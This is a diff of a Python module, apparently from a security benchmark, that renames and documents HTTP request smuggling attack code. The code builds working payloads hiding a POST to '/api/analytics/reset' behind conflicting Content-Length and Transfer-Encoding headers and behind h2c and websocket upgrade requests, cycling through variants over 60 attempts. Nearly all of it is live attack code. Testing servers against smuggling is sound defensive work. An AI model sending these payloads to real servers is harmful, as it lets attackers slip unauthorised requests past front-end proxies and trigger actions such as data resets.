@@ -1,18 +1,18 @@
-"""Requests that would be two for one who reads them otherwise. What they hide is a reset, so that a
-single one that gets through shows in the totals."""
+"""Request smuggling: requests that a server with another parser would read as two. The hidden one
+is a reset, so that a single success shows in the totals."""
 
-from bench.hostile.attack_client import Kind, Peer, request
+from bench.hostile.attack_client import Attack, AttackClient, request
 
 JSON = "Content-Type: application/json"
 RESET = request("POST /api/analytics/reset", JSON, body=b'{"confirm":"reset"}')
 CHUNKED = b"%x\r\n%s\r\n0\r\n\r\n" % (len(RESET), RESET)
-UPGRADES = (
+UPGRADE_HEADERS = (
     ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
     ("Connection: upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
     ("Connection: Upgrade", "Upgrade: TLS/1.0, HTTP/2.0"),
 )
 LENGTH = f"Content-Length: {len(RESET)}"
-ODD = (
+AMBIGUOUS_LENGTHS = (
     (LENGTH, "Transfer-Encoding: chunked"),
     ("Transfer-Encoding: chunked", "Content-Length: 4"),
     ("Transfer-Encoding: chunked, identity",),
@@ -26,21 +26,23 @@ ODD = (
 )
 
 
-async def offer_an_upgrade(peer: Peer, number: int) -> str:
-    """The body comes in a packet of its own."""
-    lines = UPGRADES[number % len(UPGRADES)]
+async def smuggle_behind_upgrade(client: AttackClient, number: int) -> str:
+    """Ask for an upgrade, with the hidden request as the body in a second packet."""
+    lines = UPGRADE_HEADERS[number % len(UPGRADE_HEADERS)]
     path = ("/api/events", "/login", "/nothing", "/")[number // 3 % 4]
-    return await peer.ask(request(f"POST {path}", JSON, *lines, LENGTH), RESET)
+    return await client.send(request(f"POST {path}", JSON, *lines, LENGTH), RESET)
 
 
-async def frame_oddly(peer: Peer, number: int) -> str:
-    lines = ODD[number % len(ODD)]
+async def smuggle_by_length(client: AttackClient, number: int) -> str:
+    """Send a hidden request behind headers with an ambiguous length."""
+    lines = AMBIGUOUS_LENGTHS[number % len(AMBIGUOUS_LENGTHS)]
     body = CHUNKED if "chunked" in " ".join(lines) else RESET
-    return await peer.ask(request("POST /api/events", JSON, *lines), body)
+    return await client.send(request("POST /api/events", JSON, *lines), body)
 
 
-async def smuggle(peer: Peer, number: int) -> str:
-    return await (offer_an_upgrade if number % 2 else frame_oddly)(peer, number // 2)
+async def smuggle(client: AttackClient, number: int) -> str:
+    """Smuggle in both ways by turns."""
+    return await (smuggle_behind_upgrade if number % 2 else smuggle_by_length)(client, number // 2)
 
 
-KINDS = {"smuggling": Kind(smuggle, 60)}
+ATTACKS = {"smuggling": Attack(smuggle, 60)}
